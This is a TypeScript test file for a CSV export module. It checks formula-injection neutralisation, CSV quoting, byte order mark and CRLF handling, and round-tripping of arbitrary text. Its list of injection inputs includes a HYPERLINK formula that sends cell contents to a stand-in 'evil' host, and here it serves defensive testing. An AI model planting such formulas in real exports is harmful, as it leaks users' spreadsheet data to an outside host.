import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { toWkb } from '../../platform/wkb.ts'
import { csvCell, csvHead, csvRow, EXCEL_CELL, neutralise, restore } from './csv.rules.ts'
import { EXPORT_FIELDS, type Exported } from './export-fields.ts'
import { exportedRow, readCsv } from './export.testing.ts'

const read = (row: Exported) => readCsv(csvHead() + csvRow(row))[0]!

describe('formulas', () => {
  it.each([
    '=HYPERLINK("http://evil?x="&A1,"klick")',
    '=1+1',
    '+1',
    '-1',
    '@SUM(1)',
    '\t=1',
    '\r=1',
    '＝1',
    '＋1',
    '－1',
    '＠x',
    '  =1',
    '\u00A0=1',
    '\u200B=1',
    '\uFEFF=1',
    '\n=1',
    '\tText',
    '\u0001=1',
    "'=1",
    '−1',
    '﹦1',
  ])('EXP-01 EXP-02 %j is text for a spreadsheet', (text) => {
    expect(neutralise(text)).toBe(`'${text}`)
    expect(restore(neutralise(text))).toBe(text)
    expect(restore(read(exportedRow({ text })).text!)).toBe(text)
  })

  it.each(['Grün statt Grau', '3 = 2 + 1', 'a@b.example', '(-1)', '„=1“', ''])(
    '%j stays as it is',
    (text) => {
      expect(neutralise(text)).toBe(text)
    },
  )

  it('numbers are numbers, also below zero', () => {
    const west = exportedRow({
      lon: -71.05,
      lat: 42.3,
      geometry: toWkb({ type: 'Point', coordinates: [-71.05, 42.3] }),
    })
    expect(read(west)).toMatchObject({ lon: '-71.05', lat: '42.3', wkt: 'POINT (-71.05 42.3)' })
  })
})

describe('the form', () => {
  it('begins with a byte order mark, ends lines with CRLF and quotes what needs it', () => {
    expect(csvHead().startsWith('\uFEFFnumber,id,receivedAt,')).toBe(true)
    expect(csvHead().endsWith(',wkt,longFields\r\n')).toBe(true)
    expect(csvCell('a "b"; c\nd')).toBe('"a ""b""; c\nd"')
    expect(csvCell('schlicht')).toBe('schlicht')
  })

  it('EXP-05 names what a cell of Excel cannot hold and shortens nothing', () => {
    const text = `"${'ä'.repeat(40_000)}";\n`
    const row = read(exportedRow({ text, extra: JSON.stringify(['x'.repeat(EXCEL_CELL)]) }))
    expect(row.text).toBe(text)
    expect(row.longFields).toBe('text extra')
    expect(read(exportedRow({})).longFields).toBe('')
  })

  it('gives back every text, whatever is in it', () => {
    const nasty = fc.oneof(
      fc.string({ unit: 'grapheme' }),
      fc.string({ unit: 'binary' }).map((text) => text.replaceAll('\0', '').toWellFormed()),
      fc
        .array(
          fc.constantFrom(
            '"',
            ',',
            ';',
            '\r',
            '\n',
            '\r\n',
            '\t',
            "'",
            '=',
            '＝',
            '-',
            '@',
            ' ',
            '\uFEFF',
            '💚',
            '\u0085',
            '\u2028',
            'ä',
          ),
        )
        .map((all) => all.join('')),
    )
    fc.assert(
      fc.property(nasty, nasty, nasty, (text, title, authorName) => {
        const row = read(exportedRow({ text, title, authorName, extra: JSON.stringify({ text }) }))
        expect(restore(row.text!)).toBe(text)
        expect(restore(row.title!)).toBe(title)
        expect(restore(row.authorName!)).toBe(authorName)
        expect(JSON.parse(row.extra!)).toEqual({ text })
      }),
      { numRuns: 400 },
    )
  })

  it('has a column for every field, each once', () => {
    const names = csvHead().slice(1).trim().split(',')
    expect(new Set(names).size).toBe(names.length)
    expect(names).toEqual([...EXPORT_FIELDS.map((field) => field.name), 'wkt', 'longFields'])
  })
})
